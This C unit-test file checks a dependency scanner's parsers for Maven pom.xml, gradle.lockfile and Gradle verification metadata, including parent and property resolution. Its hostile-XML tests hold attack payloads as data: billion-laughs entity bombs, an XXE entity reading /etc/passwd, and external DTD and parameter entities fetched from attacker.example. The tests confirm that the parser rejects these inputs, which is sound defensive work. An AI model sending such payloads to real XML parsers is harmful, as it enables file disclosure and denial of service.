/*
 * tests/unit/test_sca_jvm.c - Maven and Gradle: pom.xml with parents,
 * properties and dependencyManagement, gradle.lockfile,
 * gradle/verification-metadata.xml, and hostile XML.
 */
#include "sca_expect.h"
#include "lockfile/xmlread.h"
#include "scan/buf.h"
#include "scan/common.h"

enum {
	D = SCAN_DEP_DIRECT,
	DEV = SCAN_DEP_DEV,
	OPT = SCAN_DEP_OPTIONAL,
	LOC = SCAN_DEP_LOCAL,
	UNP = SCAN_DEP_UNPINNED,
};

#define N(a) (sizeof(a) / sizeof((a)[0]))
#define S(lit) lit, strlen(lit)

/* --- pom.xml -------------------------------------------------------------- */

static void test_pom_single(void **state)
{
	static const sca_want w[] = {
		{ "com.fasterxml.jackson.core:jackson-databind", "2.15.3", D, 52, NULL, NULL },
		{ "org.apache.logging.log4j:log4j-core", "2.20.0", D, 57, NULL, NULL },
		{ "org.apache.commons:commons-lang3", "3.14.0", D, 68, NULL, NULL },
		{ "org.junit.jupiter:junit-jupiter", NULL, D | DEV | UNP, 72, NULL, NULL },  /* from the BOM */
		{ "org.mockito:mockito-core", "5.7.0", D | DEV, 77, NULL, NULL },            /* managed scope */
		{ "jakarta.servlet:jakarta.servlet-api", "6.0.0", D, 81, NULL, NULL },       /* provided */
		{ "com.oracle.database.jdbc:ojdbc11", "23.3.0.23.09", D | LOC, 87, NULL, NULL },
		{ "org.xerial.snappy:snappy-java", "1.1.10.5", D | OPT, 94, NULL, NULL },
		{ "com.google.guava:guava", NULL, D | UNP, 100, NULL, NULL },                /* a range */
		{ "io.netty:netty-handler", NULL, D | UNP, 105, NULL, NULL },                /* undefined property */
		{ "org.example:inventory-model", "3.2.1", D | DEV, 110, NULL, NULL },
		{ "org.yaml:snakeyaml", "2.2", D, 118, NULL, NULL },
	};

	(void)state;
	sca_expect_fixture(scan_lockfile__extract_pom, "maven", "simple/pom.xml", w, N(w));
}

static void test_pom_parent_itself(void **state)
{
	static const sca_want w[] = {
		{ "org.slf4j:slf4j-api", "2.0.9", D, 67, NULL, NULL },
	};

	(void)state;
	sca_expect_fixture(scan_lockfile__extract_pom, "maven", "multi/pom.xml", w, N(w));
}

static void test_pom_child_overrides_property(void **state)
{
	/* The parent manages jackson at ${jackson.version}; the child's value wins, as in Maven. */
	static const sca_want w[] = {
		{ "com.fasterxml.jackson.core:jackson-databind", "2.16.0", D, 21, NULL, NULL },
		{ "com.google.guava:guava", "32.1.2-jre", D, 25, NULL, NULL },
		{ "org.junit.jupiter:junit-jupiter", "5.10.0", D | DEV, 29, NULL, NULL },
	};

	(void)state;
	sca_expect_fixture(scan_lockfile__extract_pom, "maven", "multi/core/pom.xml", w, N(w));
}

static void test_pom_child_with_relative_path(void **state)
{
	static const sca_want w[] = {
		{ "com.acme.shop:shop-core", "1.4.0-SNAPSHOT", D, 18, NULL, NULL },
		{ "org.springframework.boot:spring-boot-starter-web", NULL, D | UNP, 22, NULL, NULL },
		{ "com.acme.shop:shop-testkit", "1.4.0-SNAPSHOT", D | DEV, 26, NULL, NULL },
		{ "jakarta.servlet:jakarta.servlet-api", "6.0.0", D, 32, NULL, NULL },
		{ "org.projectlombok:lombok", "1.18.30", D | OPT, 38, NULL, NULL },
		{ "org.mockito:mockito-junit-jupiter", NULL, D | DEV | UNP, 45, NULL, NULL },
	};

	(void)state;
	sca_expect_fixture(scan_lockfile__extract_pom, "maven", "multi/web/pom.xml", w, N(w));
}

static void test_pom_grandchild(void **state)
{
	/*
	 * api -> services -> shop-parent: the nearest dependencyManagement wins
	 * (guava), and ${project.version} in the root's management is api's own
	 * version.
	 */
	static const sca_want w[] = {
		{ "io.grpc:grpc-netty-shaded", "1.59.0", D, 17, NULL, NULL },
		{ "io.grpc:grpc-protobuf", "1.59.0", D, 21, NULL, NULL },
		{ "com.google.protobuf:protobuf-java", "3.25.1", D, 26, NULL, NULL },
		{ "com.acme.shop:shop-core", "2.0.0", D, 31, NULL, NULL },
		{ "com.google.guava:guava", "33.0.0-jre", D, 35, NULL, NULL },
		{ "com.fasterxml.jackson.core:jackson-databind", "2.15.2", D, 39, NULL, NULL },
	};

	(void)state;
	sca_expect_fixture(scan_lockfile__extract_pom, "maven", "multi/services/api/pom.xml", w, N(w));
}

static void test_pom_relative_path_directory(void **state)
{
	/* cli -> ../../build/tools-parent (a directory) -> ../.. (the root pom). */
	static const sca_want w[] = {
		{ "info.picocli:picocli", "4.7.5", D, 17, NULL, NULL },
		{ "org.slf4j:slf4j-simple", "2.0.9", D, 22, NULL, NULL },
		{ "com.google.guava:guava", "32.1.2-jre", D, 28, NULL, NULL },
	};

	(void)state;
	sca_expect_fixture(scan_lockfile__extract_pom, "maven", "multi/tools/cli/pom.xml", w, N(w));
}

static void test_pom_parent_from_repository(void **state)
{
	static const sca_want w[] = {
		{ "org.springframework.boot:spring-boot-starter-web", NULL, D | UNP, 20, NULL, NULL },
		{ "org.springframework.boot:spring-boot-starter-test", NULL, D | DEV | UNP, 24, NULL, NULL },
		{ "org.springframework.boot:spring-boot-devtools", "3.2.0", D | OPT, 29, NULL, NULL },
		{ "org.postgresql:postgresql", NULL, D | UNP, 36, NULL, NULL },
	};

	(void)state;
	sca_expect_fixture(scan_lockfile__extract_pom, "maven", "orphan/pom.xml", w, N(w));
}

static void test_pom_parent_mismatch(void **state)
{
	/* ../multi/pom.xml is shop-parent, not other-parent: not used. */
	static const sca_want w[] = {
		{ "com.fasterxml.jackson.core:jackson-databind", NULL, D | UNP, 16, NULL, NULL },
		{ "com.acme.shop:stray-model", "1.0.0", D, 21, NULL, NULL },
	};

	(void)state;
	sca_expect_fixture(scan_lockfile__extract_pom, "maven", "mismatch/pom.xml", w, N(w));
}

static void test_pom_without_file_system(void **state)
{
	/* The parent cannot be read: what it would have supplied stays unknown. */
	static const sca_want w[] = {
		{ "com.fasterxml.jackson.core:jackson-databind", NULL, D | UNP, 21, NULL, NULL },
		{ "com.google.guava:guava", NULL, D | UNP, 25, NULL, NULL },
		{ "org.junit.jupiter:junit-jupiter", NULL, D | UNP, 29, NULL, NULL },
	};
	char *text = th_read(SCA_FIXTURES "maven/multi/core/pom.xml", NULL);

	(void)state;
	assert_non_null(text);
	sca_expect_text(scan_lockfile__extract_pom, "core/pom.xml", text, w, N(w));
	free(text);
}

static void test_pom_property_cycles(void **state)
{
	static const sca_want w[] = {
		{ "a:cycle", NULL, D | UNP, 10, NULL, NULL },
		{ "a:self", NULL, D | UNP, 11, NULL, NULL },
		{ "a:laughs", NULL, D | UNP, 12, NULL, NULL },
		{ "a:nested", "1.2.3", D, 13, NULL, NULL },
		{ "a:unclosed", NULL, D | UNP, 14, NULL, NULL },
		{ "a:latest", NULL, D | UNP, 15, NULL, NULL },
		{ "a:range", NULL, D | UNP, 16, NULL, NULL },
	};
	scan_buf b = SCAN_BUF_INIT;
	double t0 = th_cpu_seconds();

	(void)state;
	scan_buf_puts(&b, "<project>\n<groupId>g</groupId><artifactId>x</artifactId>\n"
	                  "<version>${project.version}</version>\n<properties>\n"
	                  "<a>${b}</a><b>${c}</b><c>${a}</c>\n"
	                  "<major>1</major><minor>${major}.2</minor><full>${minor}.3</full>\n");
	/* p0 = x, p(n) = ${p(n-1)}${p(n-1)}: 2^40 bytes if expanded naively */
	scan_buf_puts(&b, "<p0>x</p0>");
	for (int i = 1; i <= 40; i++)
		scan_buf_printf(&b, "<p%d>${p%d}${p%d}</p%d>", i, i - 1, i - 1, i);
	scan_buf_puts(&b, "\n</properties>\n<dependencies>\n"
	                  "<dependency><groupId>a</groupId><artifactId>cycle</artifactId><version>${a}</version></dependency>\n"
	                  "<dependency><groupId>a</groupId><artifactId>self</artifactId><version>${project.version}</version></dependency>\n"
	                  "<dependency><groupId>a</groupId><artifactId>laughs</artifactId><version>${p40}</version></dependency>\n"
	                  "<dependency><groupId>a</groupId><artifactId>nested</artifactId><version>${full}</version></dependency>\n"
	                  "<dependency><groupId>a</groupId><artifactId>unclosed</artifactId><version>${full</version></dependency>\n"
	                  "<dependency><groupId>a</groupId><artifactId>latest</artifactId><version>LATEST</version></dependency>\n"
	                  "<dependency><groupId>a</groupId><artifactId>range</artifactId><version>(,1.0],[1.2,)</version></dependency>\n"
	                  "<dependency><groupId>${nope}</groupId><artifactId>skipped</artifactId><version>1</version></dependency>\n"
	                  "<dependency><artifactId>no-group</artifactId><version>1</version></dependency>\n"
	                  "</dependencies>\n</project>\n");
	assert_int_equal(scan_buf_failed(&b), 0);
	sca_expect_text(scan_lockfile__extract_pom, "pom.xml", b.ptr, w, N(w));
	if (th_cpu_seconds() - t0 > SCA_REFUSE_SECONDS)
		fail_msg("took %.2f s", th_cpu_seconds() - t0);
	scan_buf_dispose(&b);
}

static void test_pom_expansion_budget(void **state)
{
	/* Every dependency costs the per-value budget: the document's total ends it. */
	scan_buf b = SCAN_BUF_INIT;

	(void)state;
	scan_buf_init(&b, 0);
	scan_buf_puts(&b, "<project><properties><p0>x</p0>");
	for (int i = 1; i <= 40; i++)
		scan_buf_printf(&b, "<p%d>${p%d}${p%d}</p%d>", i, i - 1, i - 1, i);
	scan_buf_puts(&b, "</properties><dependencies>\n");
	for (int i = 0; i < 5000; i++)
		scan_buf_printf(&b, "<dependency><groupId>g</groupId><artifactId>a%d</artifactId>"
		                    "<version>${p40}</version></dependency>\n", i);
	scan_buf_puts(&b, "</dependencies></project>\n");
	sca_expect_error(scan_lockfile__extract_pom, "pom.xml", b.ptr, b.size, SCAN_ELIMIT,
	             "pom.xml: more than 1000000 property substitutions");
	scan_buf_dispose(&b);
}

static void test_pom_parent_cycle_and_escape(void **state)
{
	/* a's parent is b, b's parent is a: bounded; c's parent is outside the root: ignored. */
	static const sca_want wa[] = {
		{ "x:y", "7", D, 3, NULL, NULL },
	};
	static const sca_want wc[] = {
		{ "x:z", NULL, D | UNP, 3, NULL, NULL },
	};
	char *dir = th_tmpdir();
	scan_sca_inventory inv;
	size_t len;
	char *text, *path;

	(void)state;
	th_write(dir, "a/pom.xml",
	         "<project><parent><groupId>g</groupId><artifactId>b</artifactId><relativePath>../b</relativePath></parent>\n"
	         "<artifactId>a</artifactId><dependencies>\n"
	         "<dependency><groupId>x</groupId><artifactId>y</artifactId><version>${v}</version></dependency>\n"
	         "</dependencies></project>\n");
	th_write(dir, "b/pom.xml",
	         "<project><parent><groupId>g</groupId><artifactId>a</artifactId><relativePath>../a</relativePath></parent>\n"
	         "<groupId>g</groupId><artifactId>b</artifactId><properties><v>7</v></properties></project>\n");
	th_write(dir, "c/pom.xml",
	         "<project><parent><groupId>g</groupId><artifactId>b</artifactId><relativePath>../../../b</relativePath></parent>\n"
	         "<artifactId>c</artifactId><dependencies>\n"
	         "<dependency><groupId>x</groupId><artifactId>z</artifactId><version>${v}</version></dependency>\n"
	         "</dependencies></project>\n");
	path = th_join(dir, "a/pom.xml");
	text = th_read(path, &len);
	assert_int_equal(sca_run_path(&inv, scan_lockfile__extract_pom, dir, "a/pom.xml", text, len), 0);
	sca_expect(&inv, wa, N(wa));
	scan_inventory__dispose(&inv);
	free(text);
	free(path);
	path = th_join(dir, "c/pom.xml");
	text = th_read(path, &len);
	assert_int_equal(sca_run_path(&inv, scan_lockfile__extract_pom, dir, "c/pom.xml", text, len), 0);
	sca_expect(&inv, wc, N(wc));
	scan_inventory__dispose(&inv);
	free(text);
	free(path);
	th_rmtree(dir);
	free(dir);
}

static void test_pom_refused(void **state)
{
	(void)state;
	sca_expect_error(scan_lockfile__extract_pom, "pom.xml", S("<?xml version=\"1.0\"?><settings/>"), SCAN_EPARSE,
	             "pom.xml:1: root element is <settings>, not <project>");
	sca_expect_error(scan_lockfile__extract_pom, "pom.xml", S("<project>\n<dependencies>\n</project>"), SCAN_EPARSE,
	             "pom.xml:3: not well-formed XML");
	sca_expect_error(scan_lockfile__extract_pom, "pom.xml", S(""), SCAN_EPARSE, "not well-formed");
	sca_expect_error(scan_lockfile__extract_pom, "pom.xml", S("<project>&undefined;</project>"), SCAN_EPARSE,
	             "undefined entity");
}

/* --- hostile XML ---------------------------------------------------------- */

static void test_xml_billion_laughs(void **state)
{
	static const char laughs[] =
		"<?xml version=\"1.0\"?>\n"
		"<!DOCTYPE project [\n"
		" <!ENTITY lol \"lol\">\n"
		" <!ENTITY lol1 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">\n"
		" <!ENTITY lol2 \"&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;\">\n"
		" <!ENTITY lol3 \"&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;\">\n"
		" <!ENTITY lol4 \"&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;\">\n"
		" <!ENTITY lol5 \"&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;\">\n"
		" <!ENTITY lol6 \"&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;\">\n"
		" <!ENTITY lol7 \"&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;\">\n"
		" <!ENTITY lol8 \"&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;\">\n"
		" <!ENTITY lol9 \"&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;\">\n"
		"]>\n"
		"<project><version>&lol9;</version></project>\n";

	(void)state;
	sca_expect_error(scan_lockfile__extract_pom, "pom.xml", laughs, strlen(laughs), SCAN_EPARSE,
	             "pom.xml:2: DOCTYPE declarations are not allowed");
	sca_expect_error(scan_lockfile__extract_gradle_verification, "gradle/verification-metadata.xml", laughs,
	             strlen(laughs), SCAN_EPARSE, "DOCTYPE");
}

static void test_xml_external_entities(void **state)
{
	static const char xxe[] =
		"<?xml version=\"1.0\"?>\n"
		"<!DOCTYPE project [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>\n"
		"<project><groupId>&xxe;</groupId></project>\n";
	static const char external_dtd[] =
		"<?xml version=\"1.0\"?>\n"
		"<!DOCTYPE project SYSTEM \"http://attacker.example/evil.dtd\">\n"
		"<project><groupId>&ent;</groupId></project>\n";
	static const char param[] =
		"<!DOCTYPE p [<!ENTITY % remote SYSTEM \"http://attacker.example/x\"> %remote;]><project/>";

	(void)state;
	sca_expect_error(scan_lockfile__extract_pom, "pom.xml", xxe, strlen(xxe), SCAN_EPARSE, "DOCTYPE");
	sca_expect_error(scan_lockfile__extract_pom, "pom.xml", external_dtd, strlen(external_dtd), SCAN_EPARSE, "DOCTYPE");
	sca_expect_error(scan_lockfile__extract_pom, "pom.xml", param, strlen(param), SCAN_EPARSE, "DOCTYPE");
}

static void test_xml_limits(void **state)
{
	scan_buf b = SCAN_BUF_INIT;

	(void)state;
	/* deep nesting */
	scan_buf_puts(&b, "<project>");
	for (int i = 0; i < 100000; i++)
		scan_buf_puts(&b, "<a>");
	sca_expect_error(scan_lockfile__extract_pom, "pom.xml", b.ptr, b.size, SCAN_ELIMIT,
	             "elements nested deeper than 128 levels");
	/* a huge attribute */
	scan_buf_clear(&b);
	scan_buf_puts(&b, "<project x=\"");
	for (int i = 0; i < 200000; i++)
		scan_buf_putc(&b, 'A');
	scan_buf_puts(&b, "\"/>");
	sca_expect_error(scan_lockfile__extract_pom, "pom.xml", b.ptr, b.size, SCAN_ELIMIT, "attribute 'x' longer than");
	/* huge text */
	scan_buf_clear(&b);
	scan_buf_puts(&b, "<project><description>");
	for (int i = 0; i < (3 << 20); i++)
		scan_buf_putc(&b, 'x');
	scan_buf_puts(&b, "</description></project>");
	sca_expect_error(scan_lockfile__extract_pom, "pom.xml", b.ptr, b.size, SCAN_ELIMIT, "text longer than");
	/* a huge element name */
	scan_buf_clear(&b);
	scan_buf_puts(&b, "<project><");
	for (int i = 0; i < 5000; i++)
		scan_buf_putc(&b, 'n');
	scan_buf_puts(&b, "/></project>");
	sca_expect_error(scan_lockfile__extract_pom, "pom.xml", b.ptr, b.size, SCAN_ELIMIT, "element name longer");
	/* an encoding expat does not know */
	sca_expect_error(scan_lockfile__extract_pom, "pom.xml", S("<?xml version=\"1.0\" encoding=\"EBCDIC-XX\"?><project/>"),
	             SCAN_EPARSE, "encoding");
	assert_int_equal(scan_buf_failed(&b), 0);
	scan_buf_dispose(&b);
}

static void test_xml_utf16_and_namespaces(void **state)
{
	/* UTF-16LE with a BOM, and an explicit namespace prefix. */
	static const char src[] = "<p:project xmlns:p=\"http://maven.apache.org/POM/4.0.0\"><p:dependencies>"
	                          "<p:dependency><p:groupId>g</p:groupId><p:artifactId>a</p:artifactId>"
	                          "<p:version>1</p:version></p:dependency></p:dependencies></p:project>";
	static const sca_want w[] = { { "g:a", "1", D, 1, NULL, NULL } };
	size_t n = strlen(src);
	char *utf16 = malloc(2 * n + 3);
	scan_sca_inventory inv;

	(void)state;
	utf16[0] = (char)0xFF;
	utf16[1] = (char)0xFE;
	for (size_t i = 0; i < n; i++) {
		utf16[2 + 2 * i] = src[i];
		utf16[3 + 2 * i] = 0;
	}
	utf16[2 * n + 2] = 0;
	assert_int_equal(sca_run_path(&inv, scan_lockfile__extract_pom, NULL, "pom.xml", utf16, 2 * n + 2), 0);
	sca_expect(&inv, w, N(w));
	scan_inventory__dispose(&inv);
	free(utf16);
}

/* --- gradle.lockfile ------------------------------------------------------ */

static void test_gradle_lockfile(void **state)
{
	static const sca_want w[] = {
		{ "com.fasterxml.jackson.core:jackson-annotations", "2.15.3", 0, 4, NULL, NULL },
		{ "com.fasterxml.jackson.core:jackson-core", "2.15.3", 0, 5, NULL, NULL },
		{ "com.fasterxml.jackson.core:jackson-databind", "2.15.3", 0, 6, NULL, NULL },
		{ "com.fasterxml.jackson:jackson-bom", "2.15.3", 0, 7, NULL, NULL },
		{ "com.google.code.findbugs:jsr305", "3.0.2", 0, 8, NULL, NULL },
		{ "com.google.guava:failureaccess", "1.0.1", 0, 9, NULL, NULL },
		{ "com.google.guava:guava", "32.1.3-jre", 0, 10, NULL, NULL },
		{ "net.bytebuddy:byte-buddy", "1.14.9", DEV, 11, NULL, NULL },
		{ "org.apiguardian:apiguardian-api", "1.1.2", DEV, 12, NULL, NULL },
		{ "org.junit.jupiter:junit-jupiter-api", "5.10.1", DEV, 13, NULL, NULL },
		{ "org.junit.jupiter:junit-jupiter-engine", "5.10.1", DEV, 14, NULL, NULL },
		{ "org.junit:junit-bom", "5.10.1", DEV, 15, NULL, NULL },
		{ "org.mockito:mockito-core", "5.7.0", DEV, 16, NULL, NULL },
		{ "org.projectlombok:lombok", "1.18.30", 0, 17, NULL, NULL },
		{ "org.slf4j:slf4j-api", "2.0.9", 0, 18, NULL, NULL },
	};

	(void)state;
	sca_expect_fixture(scan_lockfile__extract_gradle_lock, "gradle", "app/gradle.lockfile", w, N(w));
}

static void test_gradle_buildscript_lockfile(void **state)
{
	static const sca_want w[] = {
		{ "com.diffplug.spotless:spotless-plugin-gradle", "6.22.0", DEV, 4, NULL, NULL },
		{ "com.google.protobuf:protobuf-gradle-plugin", "0.9.4", DEV, 5, NULL, NULL },
	};

	(void)state;
	sca_expect_fixture(scan_lockfile__extract_gradle_lock, "gradle", "app/buildscript-gradle.lockfile", w, N(w));
}

static void test_gradle_legacy_lockfiles(void **state)
{
	static const sca_want test_w[] = {
		{ "junit:junit", "4.13.2", DEV, 4, NULL, NULL },
		{ "org.hamcrest:hamcrest-core", "1.3", DEV, 5, NULL, NULL },
	};
	static const sca_want rt_w[] = {
		{ "org.apache.commons:commons-text", "1.10.0", 0, 4, NULL, NULL },
		{ "org.apache.commons:commons-lang3", "3.12.0", 0, 5, NULL, NULL },
	};

	(void)state;
	sca_expect_fixture(scan_lockfile__extract_gradle_lock, "gradle",
	               "app/gradle/dependency-locks/testRuntimeClasspath.lockfile", test_w, N(test_w));
	sca_expect_fixture(scan_lockfile__extract_gradle_lock, "gradle", "app/gradle/dependency-locks/runtimeClasspath.lockfile",
	               rt_w, N(rt_w));
}

static void test_gradle_lockfile_crlf_and_errors(void **state)
{
	static const sca_want w[] = {
		{ "io.micronaut:micronaut-core", "4.2.0", 0, 4, NULL, NULL },
	};

	static const sca_want odd[] = {
		{ "a:latest", "1", 0, 1, NULL, NULL },
		{ "a:fixtures", "2", DEV, 2, NULL, NULL },
		{ "a:mixed", "3", 0, 3, NULL, NULL },
		{ "a:none", "4", 0, 4, NULL, NULL },
	};

	(void)state;
	sca_expect_fixture(scan_lockfile__extract_gradle_lock, "gradle", "crlf-gradle.lockfile", w, N(w));
	sca_expect_text(scan_lockfile__extract_gradle_lock, "gradle.lockfile",
	            "a:latest:1=latestClasspath\n"
	            "a:fixtures:2=testFixturesRuntimeClasspath, functionalTestRuntimeClasspath\n"
	            "a:mixed:3=testRuntimeClasspath,runtimeClasspath\n"
	            "a:none:4=\n",
	            odd, N(odd));
	sca_expect_error(scan_lockfile__extract_gradle_lock, "gradle.lockfile", S("# c\ng:a=compileClasspath\n"), SCAN_EPARSE,
	             "gradle.lockfile:2: expected group:artifact:version=configurations");
	sca_expect_error(scan_lockfile__extract_gradle_lock, "gradle.lockfile", S("g:a:1:x=runtimeClasspath\n"), SCAN_EPARSE,
	             ":1: expected");
	sca_expect_error(scan_lockfile__extract_gradle_lock, "gradle.lockfile", S("g::1=runtimeClasspath\n"), SCAN_EPARSE,
	             NULL);
	sca_expect_error(scan_lockfile__extract_gradle_lock, "gradle.lockfile", S("g:a:\x01=x\n"), SCAN_EPARSE,
	             "invalid version");
}

/* --- gradle/verification-metadata.xml ------------------------------------- */

static void test_gradle_verification(void **state)
{
	static const sca_want w[] = {
		{ "com.google.code.findbugs:jsr305", "3.0.2", 0, 12, NULL, NULL },
		{ "com.google.guava:guava", "32.1.3-jre", 0, 20, NULL, NULL },
		{ "org.jetbrains.kotlin:kotlin-stdlib", "1.9.20", 0, 28, NULL, NULL },
		{ "org.jetbrains.kotlin:kotlin-stdlib", "1.8.21", 0, 33, NULL, NULL },
	};

	(void)state;
	sca_expect_fixture(scan_lockfile__extract_gradle_verification, "gradle", "gradle/verification-metadata.xml", w, N(w));
	sca_expect_error(scan_lockfile__extract_gradle_verification, "gradle/verification-metadata.xml",
	             S("<verification-metadata><components>\n<component group=\"g\" name=\"n\"/>"
	               "</components></verification-metadata>"),
	             SCAN_EPARSE, ":2: <component> needs group, name and version");
	sca_expect_error(scan_lockfile__extract_gradle_verification, "v.xml", S("<project/>"), SCAN_EPARSE,
	             "not <verification-metadata>");
}

static void test_paths(void **state)
{
	(void)state;
	assert_true(scan_lockfile__is_pom("pom.xml", "pom.xml"));
	assert_true(scan_lockfile__is_pom("a/b/pom.xml", "pom.xml"));
	assert_false(scan_lockfile__is_pom("a/pom.xml.bak", "pom.xml.bak"));
	assert_true(scan_lockfile__is_gradle_lock("gradle.lockfile", "gradle.lockfile"));
	assert_true(scan_lockfile__is_gradle_lock("app/buildscript-gradle.lockfile", "buildscript-gradle.lockfile"));
	assert_true(scan_lockfile__is_gradle_lock("app/gradle/dependency-locks/compileClasspath.lockfile",
	                                          "compileClasspath.lockfile"));
	assert_false(scan_lockfile__is_gradle_lock("x/other.lockfile", "other.lockfile"));
	assert_true(scan_lockfile__is_gradle_verification("gradle/verification-metadata.xml", "verification-metadata.xml"));
	assert_true(scan_lockfile__is_gradle_verification("sub/gradle/verification-metadata.xml",
	                                                  "verification-metadata.xml"));
	assert_false(scan_lockfile__is_gradle_verification("verification-metadata.xml", "verification-metadata.xml"));
	assert_false(scan_lockfile__is_gradle_verification("mygradle/verification-metadata.xml",
	                                                   "verification-metadata.xml"));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_pom_single),
		cmocka_unit_test(test_pom_parent_itself),
		cmocka_unit_test(test_pom_child_overrides_property),
		cmocka_unit_test(test_pom_child_with_relative_path),
		cmocka_unit_test(test_pom_grandchild),
		cmocka_unit_test(test_pom_relative_path_directory),
		cmocka_unit_test(test_pom_parent_from_repository),
		cmocka_unit_test(test_pom_parent_mismatch),
		cmocka_unit_test(test_pom_without_file_system),
		cmocka_unit_test(test_pom_property_cycles),
		cmocka_unit_test(test_pom_expansion_budget),
		cmocka_unit_test(test_pom_parent_cycle_and_escape),
		cmocka_unit_test(test_pom_refused),
		cmocka_unit_test(test_xml_billion_laughs),
		cmocka_unit_test(test_xml_external_entities),
		cmocka_unit_test(test_xml_limits),
		cmocka_unit_test(test_xml_utf16_and_namespaces),
		cmocka_unit_test(test_gradle_lockfile),
		cmocka_unit_test(test_gradle_buildscript_lockfile),
		cmocka_unit_test(test_gradle_legacy_lockfiles),
		cmocka_unit_test(test_gradle_lockfile_crlf_and_errors),
		cmocka_unit_test(test_gradle_verification),
		cmocka_unit_test(test_paths),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
